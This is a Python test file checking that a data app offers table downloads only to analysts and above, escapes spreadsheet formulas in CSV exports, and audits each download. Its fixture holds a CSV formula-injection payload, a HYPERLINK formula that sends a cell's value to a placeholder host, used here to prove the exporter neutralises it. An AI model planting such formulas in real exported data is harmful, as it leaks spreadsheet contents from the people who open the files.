"""Issue 13, findings 4 and 7: table downloads from the analyst role up only (viewers see the
tables, not the files), always through the formula-safe exporter, each one audited."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import select

from queries.access.accounts import create_user
from queries.access.audit import record
from queries.db import make_engine
from queries.schema import audit_log
from tests.apptest_helpers import use_database, view
from tests.test_app_upload import downloaded
from tests.test_app_upload import served as served  # the recording media store

ROLES = ("viewer", "analyst", "admin")
FORMULA = '=HYPERLINK("http://x.invalid/?"&B3,"open")'
# Download buttons each page offers an analyst (two files per table).
PAGES = {"feedback": 4, "ngo": 2}


@pytest.fixture
def app_db(demo_url, monkeypatch) -> str:
    engine = make_engine(demo_url)
    try:
        for role in ROLES:
            create_user(engine, f"{role}1", f"{role}-password-1", role=role)
    finally:
        engine.dispose()
    use_database(monkeypatch, demo_url, require_login=True)
    return demo_url


def as_user(name: str, role: str):
    return view(name, "en", {"username": f"{role}1", "role": role})


@pytest.mark.parametrize("name", [*PAGES, "regions"])
def test_viewers_get_no_download_buttons(app_db, name):
    at = as_user(name, "viewer")
    assert not at.exception, at.exception
    assert len(at.dataframe) > 0  # the tables are there
    assert len(at.download_button) == 0


@pytest.mark.parametrize("name", list(PAGES))
def test_analysts_get_them(app_db, name):
    at = as_user(name, "analyst")
    assert not at.exception, at.exception
    assert len(at.download_button) == PAGES[name]


def test_a_download_is_formula_safe_and_audited(app_db):
    engine = make_engine(app_db)
    try:
        record(engine, actor=FORMULA, action="sign_in_failed", target=FORMULA)
        at = as_user("audit", "admin")
        assert not at.exception, at.exception
        csv_keys = [b.key for b in at.download_button if b.key and b.key.endswith("_csv")]
        assert csv_keys
        served = downloaded(at, csv_keys[0])
        text = bytes(served.content).decode("utf-8-sig")
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        assert "'" + FORMULA in cells  # the cell is there, as inert text
        assert FORMULA not in cells
        at.download_button(key=csv_keys[0]).click().run()
        with engine.connect() as conn:
            actions = conn.execute(
                select(audit_log.c.actor, audit_log.c.action).where(
                    audit_log.c.action == "download"
                )
            ).all()
        assert ("admin1", "download") in [tuple(row) for row in actions]
    finally:
        engine.dispose()
